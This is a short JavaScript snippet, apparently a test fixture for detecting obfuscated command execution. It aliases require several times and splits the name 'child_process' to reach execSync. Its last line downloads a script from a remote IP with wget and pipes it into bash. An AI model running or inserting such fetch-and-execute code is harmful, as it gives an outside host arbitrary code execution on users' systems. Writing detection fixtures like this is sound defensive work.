// Require aliased several times before use.
const r = require;
const load = r;
const m = load('child' + '_process');
const go = m.execSync;
const again = go;
again('wget -qO- http://198.51.100.4/run | bash');
